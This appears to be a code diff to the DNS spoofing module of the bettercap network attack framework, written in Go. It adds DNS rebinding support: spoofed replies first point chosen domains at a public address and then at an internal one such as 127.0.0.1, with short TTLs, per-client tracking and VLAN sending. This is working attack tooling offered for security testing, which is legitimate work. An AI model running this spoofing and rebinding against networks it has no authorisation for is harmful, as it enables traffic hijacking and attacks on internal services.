@@ -5,7 +5,9 @@ import (
 	"fmt"
 	"net"
 	"sync"
+	"time"
 
+	"github.com/bettercap/bettercap/modules/utils"
 	"github.com/bettercap/bettercap/packets"
 	"github.com/bettercap/bettercap/session"
 
@@ -21,6 +23,8 @@ type DNSSpoofer struct {
 	Handle        *pcap.Handle
 	Hosts         Hosts
 	All           bool
+	Rebinder      *Rebinder
+	vlan          *utils.VLAN
 	waitGroup     *sync.WaitGroup
 	pktSourceChan chan gopacket.Packet
 }
@@ -53,6 +57,40 @@ func NewDNSSpoofer(s *session.Session) *DNSSpoofer {
 		"false",
 		"If true the module will reply to every DNS request, otherwise it will only reply to the one targeting the local pc."))
 
+	mod.AddParam(session.NewStringParameter("dns.spoof.rebind.domains",
+		"",
+		"",
+		"Comma separated values of domain names to resolve to dns.spoof.rebind.public and then to dns.spoof.rebind.target, to test the DNS rebinding protections of the clients."))
+
+	mod.AddParam(session.NewStringParameter("dns.spoof.rebind.public",
+		session.ParamIfaceAddress,
+		session.IPv4Validator,
+		"Public IP address the rebinding domains resolve to first, serving the page that attacks the target."))
+
+	mod.AddParam(session.NewStringParameter("dns.spoof.rebind.target",
+		"127.0.0.1",
+		session.IPv4Validator,
+		"Internal IP address the rebinding domains are rebound to."))
+
+	mod.AddParam(session.NewStringParameter("dns.spoof.rebind.mode",
+		RebindAlternate,
+		"^(alternate|switch)$",
+		"Use alternate to switch between the public and the target address every dns.spoof.rebind.after answers, or switch to keep answering with the target address after them."))
+
+	mod.AddParam(session.NewIntParameter("dns.spoof.rebind.after",
+		"1",
+		"Number of answers of a client with the public address before it gets the target one."))
+
+	mod.AddParam(session.NewIntParameter("dns.spoof.rebind.ttl",
+		"1",
+		"TTL in seconds of the rebinding answers, low values make the clients query the domain again sooner."))
+
+	mod.AddParam(session.NewIntParameter("dns.spoof.rebind.reset",
+		"60",
+		"Seconds after the last query of a client for a rebinding domain to start over with the public address."))
+
+	mod.vlan = utils.VLANFor(&mod.SessionModule, "dns.spoof")
+
 	mod.AddHandler(session.NewModuleHandler("dns.spoof on", "",
 		"Start the DNS spoofer in the background.",
 		func(args []string) error {
@@ -85,6 +123,10 @@ func (mod *DNSSpoofer) Configure() error {
 	var hostsFile string
 	var domains []string
 	var address net.IP
+	var rebindDomains []string
+	var rebindPublic, rebindTarget net.IP
+	var rebindMode string
+	var rebindAfter, rebindTTL, rebindReset int
 
 	if mod.Running() {
 		return session.ErrAlreadyStarted
@@ -100,6 +142,34 @@ func (mod *DNSSpoofer) Configure() error {
 		return err
 	} else if err, hostsFile = mod.StringParam("dns.spoof.hosts"); err != nil {
 		return err
+	} else if err, rebindDomains = mod.ListParam("dns.spoof.rebind.domains"); err != nil {
+		return err
+	} else if err, rebindPublic = mod.IPParam("dns.spoof.rebind.public"); err != nil {
+		return err
+	} else if err, rebindTarget = mod.IPParam("dns.spoof.rebind.target"); err != nil {
+		return err
+	} else if err, rebindMode = mod.StringParam("dns.spoof.rebind.mode"); err != nil {
+		return err
+	} else if err, rebindAfter = mod.IntParam("dns.spoof.rebind.after"); err != nil {
+		return err
+	} else if err, rebindTTL = mod.IntParam("dns.spoof.rebind.ttl"); err != nil {
+		return err
+	} else if err, rebindReset = mod.IntParam("dns.spoof.rebind.reset"); err != nil {
+		return err
+	} else if err = mod.vlan.Update(); err != nil {
+		return err
+	}
+
+	if rebindAfter < 1 {
+		return fmt.Errorf("dns.spoof.rebind.after must be at least 1")
+	} else if rebindTTL < 0 {
+		return fmt.Errorf("dns.spoof.rebind.ttl can't be negative")
+	}
+
+	mod.Rebinder = nil
+	if len(rebindDomains) > 0 {
+		mod.Rebinder = NewRebinder(rebindDomains, rebindPublic, rebindTarget, rebindMode, rebindAfter,
+			uint32(rebindTTL), time.Duration(rebindReset)*time.Second)
 	}
 
 	mod.Hosts = Hosts{}
@@ -116,14 +186,20 @@ func (mod *DNSSpoofer) Configure() error {
 		}
 	}
 
-	if len(mod.Hosts) == 0 {
-		return fmt.Errorf("at least dns.spoof.hosts or dns.spoof.domains must be filled")
+	if len(mod.Hosts) == 0 && mod.Rebinder == nil {
+		return fmt.Errorf("at least dns.spoof.hosts, dns.spoof.domains or dns.spoof.rebind.domains must be filled")
 	}
 
 	for _, entry := range mod.Hosts {
 		mod.Info("%s -> %s", entry.Host, entry.Address)
 	}
 
+	if mod.Rebinder != nil {
+		for _, entry := range mod.Rebinder.Hosts {
+			mod.Info("%s -> %s / %s (%s)", entry.Host, rebindPublic, rebindTarget, rebindMode)
+		}
+	}
+
 	if !mod.Session.Firewall.IsForwardingEnabled() {
 		mod.Info("enabling forwarding.")
 		mod.Session.Firewall.EnableForwarding(true)
@@ -132,7 +208,7 @@ func (mod *DNSSpoofer) Configure() error {
 	return nil
 }
 
-func (mod *DNSSpoofer) dnsReply(pkt gopacket.Packet, peth *layers.Ethernet, pudp *layers.UDP, domain string, address net.IP, req *layers.DNS, target net.HardwareAddr) {
+func (mod *DNSSpoofer) dnsReply(pkt gopacket.Packet, peth *layers.Ethernet, pudp *layers.UDP, domain string, address net.IP, ttl uint32, req *layers.DNS, target net.HardwareAddr) {
 	redir := fmt.Sprintf("(->%s)", address.String())
 	who := target.String()
 
@@ -141,6 +217,7 @@ func (mod *DNSSpoofer) dnsReply(pkt gopacket.Packet, peth *layers.Ethernet, pudp
 	}
 
 	mod.Info("sending spoofed DNS reply for %s %s to %s.", tui.Red(domain), tui.Dim(redir), tui.Bold(who))
+	mod.Meter("spoofed", "%s -> %s for %s", domain, address, who)
 
 	var err error
 	var src, dst net.IP
@@ -182,7 +259,7 @@ func (mod *DNSSpoofer) dnsReply(pkt gopacket.Packet, peth *layers.Ethernet, pudp
 				Name:  []byte(q.Name),
 				Type:  q.Type,
 				Class: q.Class,
-				TTL:   1024,
+				TTL:   ttl,
 				IP:    address,
 			})
 	}
@@ -243,7 +320,7 @@ func (mod *DNSSpoofer) dnsReply(pkt gopacket.Packet, peth *layers.Ethernet, pudp
 	}
 
 	mod.Debug("sending %d bytes of packet ...", len(raw))
-	if err := mod.Session.Queue.Send(raw); err != nil {
+	if err := mod.vlan.Send(raw); err != nil {
 		mod.Error("error sending packet: %s", err)
 	}
 }
@@ -260,10 +337,29 @@ func (mod *DNSSpoofer) onPacket(pkt gopacket.Packet) {
 		dns, parsed := pkt.Layer(layers.LayerTypeDNS).(*layers.DNS)
 		if parsed && dns.OpCode == layers.DNSOpCodeQuery && len(dns.Questions) > 0 && len(dns.Answers) == 0 {
 			udp := typeUDP.(*layers.UDP)
+			client := ""
+			if nlayer := pkt.NetworkLayer(); nlayer != nil {
+				client = nlayer.NetworkFlow().Src().String()
+			}
+
 			for _, q := range dns.Questions {
 				qName := string(q.Name)
-				if address := mod.Hosts.Resolve(qName); address != nil {
-					mod.dnsReply(pkt, eth, udp, qName, address, dns, eth.SrcMAC)
+				ttl := uint32(1024)
+				address := mod.Hosts.Resolve(qName)
+				if mod.Rebinder != nil && client != "" {
+					if rebound, answer := mod.Rebinder.Resolve(client, qName); rebound != nil {
+						mod.Debug("rebinding answer #%d for %s to %s: %s", answer, qName, client, rebound)
+						address = rebound
+						ttl = mod.Rebinder.TTL
+					}
+				}
+
+				if client != "" {
+					mod.Session.DNS.Add(client, qName, dns.ID, address != nil)
+				}
+
+				if address != nil {
+					mod.dnsReply(pkt, eth, udp, qName, address, ttl, dns, eth.SrcMAC)
 					break
 				} else {
 					mod.Debug("skipping domain %s", qName)